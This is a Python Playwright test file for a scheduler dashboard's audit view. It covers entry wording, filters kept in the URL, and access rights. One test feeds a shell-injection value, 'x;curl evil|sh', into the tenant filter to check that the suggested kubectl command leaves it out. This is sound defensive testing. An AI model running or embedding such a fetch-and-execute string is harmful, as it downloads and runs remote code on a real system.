"""The audit view: entries in words, filters that are part of the address, and rights."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Locator, Page, expect

from app.core.audit.codec import entry_line
from app.core.audit_entry import AuditRecord, EntryType, Fact, seal
from app.core.model import Millis
from tests.browser.conftest import Opens
from tests.browser.signed_in import LED, QUICK, go, live
from tests.fakes.fake_api_cluster import (
    NOW,
    ApiCluster,
    Served,
    busy,
    record_releases,
    served,
    tenant,
)


@pytest.fixture
def town() -> ApiCluster:
    return ApiCluster(leader_message=LED)


@pytest.fixture
def place(town: ApiCluster) -> Iterator[Served]:
    with served(town, QUICK) as place:
        place.deliver(*busy())
        yield place


def record(town: ApiCluster, kind: EntryType, facts: dict[str, Fact], at: Millis = NOW) -> None:
    """Append an entry to the audit chain."""
    entry = seal(town.stream.last(), 1, AuditRecord(at, kind, facts))
    town.stream.rows.append((entry.number, entry_line(entry)))


def audit_rows(opens: Opens, town: ApiCluster, place: Served) -> tuple[Page, Locator]:
    """Open the audit view with the right to it. Return the page and the rows of its table."""
    town.rights.granted |= {("get", "audit")}
    page = live(opens, place, "audit", now=NOW, locale="en-GB", timezone_id="UTC")
    return page, page.get_by_role("table", name="Audit entries").locator("tbody tr")


def test_the_audit_view_shows_entries_in_words_with_links_to_pods(
    opens: Opens, town: ApiCluster, place: Served
) -> None:
    record_releases(town.stream, "robotics", 8, [600], minutes=1)
    facts: dict[str, Fact] = {"namespace": "robotics", "pod": "wait-0", "uid": "robotics/wait-0"}
    compared = {"first": "a", "score": "1", "next": "b", "nextScore": "2"}
    alone: dict[str, Fact] = {"first": "c", "score": "1792"}
    hidden = {name: fact for name, fact in compared.items() if name != "next"}
    facts |= {"waited": 90, "compared": (compared, hidden, alone), "backfilled": False}
    record(town, EntryType.RELEASED, facts)
    facts = {"kind": "Tenant", "name": "vision", "since": NOW - 60_000, "count": 1}
    record(town, EntryType.RESTORED, facts)
    page, rows = audit_rows(opens, town, place)
    expect(rows).to_have_count(3)
    expect(rows.nth(0)).to_contain_text("since: 14:12, count: 1 time")
    rows = rows.filter(has_text="robotics/")
    levels = "a (1) before b (2), a (1) before another (2), c (nobody else waits)"
    expect(rows.nth(0)).to_contain_text(f"waited: 2 min, compared: {levels}")
    expect(rows.nth(1)).to_contain_text("amounts: 8 GPUs, waited: 10 min")
    rows.nth(0).get_by_role("link", name="robotics/wait-0").click()
    expect(page.get_by_role("dialog")).to_contain_text("1 of 7")


def test_reclaim_entry_shows_amounts_with_units(
    opens: Opens, town: ApiCluster, place: Served
) -> None:
    facts: dict[str, Fact] = {"pod": "p", "borrowed": ("0.122917", "0"), "lostGpuSeconds": 685}
    record(town, EntryType.RECLAIMED, facts)
    record(town, EntryType.RECLAIMED, {"pod": "of-weight-0.1", "borrowed": ("3", "1.25")})
    _, rows = audit_rows(opens, town, place)
    expect(rows.nth(0)).to_contain_text("borrowed: weighted share 3, against 1.3")
    told = "borrowed: weighted share 0.12, against 0, lostGpuSeconds: 11 min of a GPU"
    expect(rows.nth(1)).to_contain_text(told)


def test_consecutive_equal_refusals_share_one_row(
    opens: Opens, town: ApiCluster, place: Served
) -> None:
    for name in ("one", "one", "one", "two"):
        record(town, EntryType.REFUSED, {"why": "no such pool", "object": name, "count": 1})
    _, rows = audit_rows(opens, town, place)
    expect(rows).to_have_count(2)
    expect(rows.nth(0)).to_contain_text("object: two, count: 1 time")
    expect(rows.nth(1)).to_contain_text("object: one, count: 3 times")
    expect(rows.nth(0).get_by_role("rowheader")).to_have_text("14:13:20")


def test_names_of_facts_are_shown_with_escapes(
    opens: Opens, town: ApiCluster, place: Served
) -> None:
    record(town, EntryType.CHANGED, {"kind": "Tenant", "no\u202eon": "x"})
    _, rows = audit_rows(opens, town, place)
    expect(rows.nth(0)).to_contain_text("no\\u202eon: x")


def test_an_entry_that_is_written_later_than_its_time_is_shown(
    opens: Opens, town: ApiCluster, place: Served
) -> None:
    record(town, EntryType.CHANGED, {"kind": "Tenant", "name": "first"})
    page, rows = audit_rows(opens, town, place)
    expect(rows).to_have_count(1)
    record(town, EntryType.RESTORED, {"kind": "Tenant", "name": "late"}, Millis(NOW - 300_000))
    page.clock.fast_forward(10_000)
    expect(rows).to_have_count(2)
    expect(rows.first).to_contain_text("late")


def test_new_entries_are_shown_in_a_browser_whose_clock_is_ahead(
    opens: Opens, town: ApiCluster, place: Served
) -> None:
    town.rights.granted |= {("get", "audit")}
    record(town, EntryType.CHANGED, {"kind": "Tenant", "name": "first"})
    page = live(opens, place, "audit", now=NOW + 900_000)
    expect(page.get_by_role("table", name="Audit entries")).to_contain_text("first")


COUNT = """() => {
    const real = JSON.stringify;
    window.counted = 0;
    JSON.stringify = (value, ...rest) => {
        if (value?.deed || value?.facts) window.counted += 1;
        return real(value, ...rest);
    };
}"""


def test_entries_are_not_searched_at_each_drawing(
    opens: Opens, town: ApiCluster, place: Served
) -> None:
    record(town, EntryType.CHANGED, {"kind": "Tenant", "name": "first"})
    page, rows = audit_rows(opens, town, place)
    expect(rows).to_have_count(1)
    page.evaluate(COUNT)
    place.deliver(tenant("drawn-again"))
    option = page.get_by_label("Tenant").locator("option", has_text="drawn-again")
    expect(option).to_have_count(1)
    assert page.evaluate("window.counted") == 0


# --- filters ---


def shown(page: Page) -> Locator:
    return page.get_by_role("table", name="Audit entries").locator("tbody tr")


def test_the_tenant_filter_is_part_of_the_address(
    opens: Opens, town: ApiCluster, place: Served
) -> None:
    for name in ("robotics", "vision", "vision"):
        record_releases(town.stream, name, 8, [60], minutes=1)
    page, rows = audit_rows(opens, town, place)
    expect(rows).to_have_count(3)
    page.get_by_label("Tenant").select_option("vision")
    expect(rows).to_have_count(2)
    expect(rows.filter(has_text="robotics/")).to_have_count(0)
    assert page.url.endswith("#/audit?tenant=vision")
    page.go_back()
    expect(rows).to_have_count(3)
    expect(page.get_by_label("Tenant")).to_have_value("")
    page = live(opens, place, "tenants/vision", now=NOW)
    page.locator("main").get_by_role("link", name="Audit").click()
    expect(shown(page)).to_have_count(2)
    expect(page.get_by_label("Tenant")).to_have_value("vision")


def test_without_entries_the_view_names_the_filters_and_clears_them(
    opens: Opens, town: ApiCluster, place: Served
) -> None:
    record_releases(town.stream, "robotics", 8, [60], minutes=1)
    town.rights.granted |= {("get", "audit")}
    page = live(opens, place, "audit?minutes=60&tenant=gone&filter=held", now=NOW)
    told = 'No entry about tenant gone with the text "held" was recorded in the last 60 minutes.'
    expect(page.get_by_text(told)).to_be_visible()
    expect(page.get_by_text("nor refusals, which name no tenant")).to_be_visible()
    page.get_by_role("button", name="Clear the filters").click()
    expect(shown(page)).to_have_count(1)
    assert page.url.endswith("#/audit?minutes=60")
    page.go_back()
    expect(page.get_by_text(told)).to_be_visible()


def test_the_command_names_a_tenant_but_no_other_text_of_the_address(
    opens: Opens, town: ApiCluster, place: Served
) -> None:
    town.rights.granted |= {("get", "audit")}
    page = live(opens, place, "audit?tenant=vision", now=NOW)
    expect(page.get_by_text("kubectl fairgate audit --tenant vision")).to_be_visible()
    go(page, "audit?tenant=x;curl%20evil|sh")
    expect(page.get_by_text("No entry about tenant x;curl evil|sh")).to_be_visible()
    expect(page.get_by_text("Only entries about this tenant itself")).to_be_visible()
    expect(page.get_by_text("--tenant")).to_have_count(0)


# --- rights ---


def test_the_audit_view_without_the_right_names_the_right(
    opens: Opens, town: ApiCluster, place: Served
) -> None:
    page = live(opens, place, "audit")
    sentence = "You may not see the audit entries of all tenants."
    expect(page.get_by_text(sentence)).to_be_visible()
    expect(page.get_by_text("The missing right: get audit.fairgate.io")).to_be_visible()
    page.get_by_label("Tenant").select_option("vision")
    expect(page.get_by_text("You may not see the audit entries of tenant vision.")).to_be_visible()
    expect(page.get_by_text("The missing right: get audit.fairgate.io vision")).to_be_visible()
    expect(page.get_by_role("alert").filter(has_text="cannot be shown")).to_have_count(0)


def test_user_with_a_right_on_one_tenant_sees_only_its_entries(
    opens: Opens, town: ApiCluster, place: Served
) -> None:
    town.rights.granted = {("get", "stream"), ("get", "tenants/queue/vision")}
    town.rights.granted |= {("get", "audit/vision")}
    for name in ("robotics", "vision"):
        record_releases(town.stream, name, 8, [60], minutes=1)
    page = live(opens, place, "audit", now=NOW)
    expect(page.get_by_text("If you have the right on a tenant, choose it above.")).to_be_visible()
    options = page.get_by_label("Tenant").get_by_role("option")
    expect(options).to_have_text(["choose one", "vision"])
    page.get_by_label("Tenant").select_option("vision")
    expect(shown(page)).to_have_count(1)
    expect(shown(page)).to_contain_text("vision/")
    expect(page.get_by_text("You may not see")).to_have_count(0)
